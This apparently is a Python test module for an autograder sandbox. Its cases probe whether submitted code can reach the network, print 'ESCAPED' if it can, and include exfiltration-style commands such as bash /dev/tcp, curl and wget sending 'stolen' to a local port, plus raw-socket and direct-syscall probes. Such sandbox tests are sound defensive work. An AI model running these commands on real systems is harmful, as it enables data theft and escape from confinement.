"""Send what was seen to somebody outside."""

from .case import lazy

TRY = """\
import os, socket, subprocess
def attempt(action):
    try:
        action()
    except (OSError, subprocess.SubprocessError, ImportError):
        return
    print('ESC' + 'APED')
"""
PYTHON = "import socket; socket.create_connection((chr(49) + '27.0.0.1', @PORT@), 1).send(b'stolen')"

CASES = {
    "tcp": lazy(
        "connects by TCP", TRY + "attempt(lambda: socket.create_connection(('127.0.0.1', @PORT@), 1).send(b'stolen'))"
    ),
    "udp": lazy(
        "sends a datagram",
        TRY + "attempt(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b'stolen', ('127.0.0.1', @PORT@)))",
    ),
    "ipv6": lazy("connects by IPv6", TRY + "attempt(lambda: socket.socket(socket.AF_INET6).connect(('::1', @PORT@)))"),
    "unix": lazy(
        "connects to a service of the machine",
        TRY + "attempt(lambda: socket.socket(socket.AF_UNIX).connect('@SOCKET@'))",
    ),
    "abstract": lazy(
        "connects to a socket without a file",
        TRY + "attempt(lambda: socket.socket(socket.AF_UNIX).connect('\\0autograder-hostile-@PORT@'))",
    ),
    "pair": lazy(
        "makes a socket out of a pair that it may have",
        TRY + "a, b = socket.socketpair(type=socket.SOCK_DGRAM)\n"
        "attempt(lambda: a.sendto(b'stolen', '@SOCKET@'))\nattempt(lambda: a.sendto(b'stolen', '\\0autograder-hostile-datagrams-@PORT@'))",
    ),
    "raw": lazy(
        "opens raw and kernel sockets",
        TRY
        + "attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))\nattempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))\nattempt(lambda: socket.socket(getattr(socket, 'AF_VSOCK', 40)))",
    ),
    "subprocess": lazy(
        "lets Python, curl and bash connect",
        TRY + "import sys\n"
        f"subprocess.run([sys.executable, '-c', {PYTHON!r}], timeout=2, capture_output=True)\n"
        "for command in ('curl -s -m 1 http://127.0.0.1:@PORT@/', 'bash -c \"echo stolen > /dev/tcp/127.0.0.1/@PORT@\"', 'wget -T 1 -t 1 http://127.0.0.1:@PORT@/'):\n"
        "    subprocess.run(command, shell=True, timeout=2, capture_output=True)",
    ),
    "names": lazy(
        "asks for an address",
        TRY
        + "attempt(lambda: socket.getaddrinfo('localhost', 80, proto=socket.IPPROTO_TCP) and socket.gethostbyname('example.org'))",
    ),
    "serves": lazy(
        "waits for somebody to connect",
        TRY
        + "import http.server\nattempt(lambda: http.server.HTTPServer(('0.0.0.0', 0), http.server.SimpleHTTPRequestHandler))",
    ),
    "urllib": lazy(
        "downloads",
        TRY + "import urllib.request\nattempt(lambda: urllib.request.urlopen('http://127.0.0.1:@PORT@/', timeout=1))",
    ),
    "system_calls": lazy(
        "makes the system calls by hand, also those of the 32-bit world",
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "for number in (41, 425):\n    if libc.syscall(number, 2, 1, 0) >= 0: print('ESC' + 'APED', number)",
    ),
}
